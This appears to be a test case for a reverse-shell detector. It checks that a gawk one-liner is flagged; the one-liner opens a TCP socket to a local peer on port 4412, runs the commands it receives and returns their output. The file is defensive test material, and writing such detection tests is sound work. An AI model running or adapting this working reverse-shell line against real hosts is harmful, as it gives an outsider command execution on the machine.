# R12: gawk runs the commands it receives
# stage: equipped
# expect: reverse_shell_detected
#   detection.reason: ~outbound

#: prepare
. lib/peers.sh
peer 4412 'cat'
#: act
. lib/peers.sh
act
gawk 'BEGIN { s = "/inet/tcp/0/127.0.0.1/4412"; s |& getline c
while ((c |& getline l) > 0) print l |& s }' \
  < /dev/null > /dev/null 2>&1 & fact gawk $!
who cat cat
await 'at $gawk 3 socket:* && ( at $cat 0 pipe:* || at $cat 0 socket:* )'
seen; kill $cat
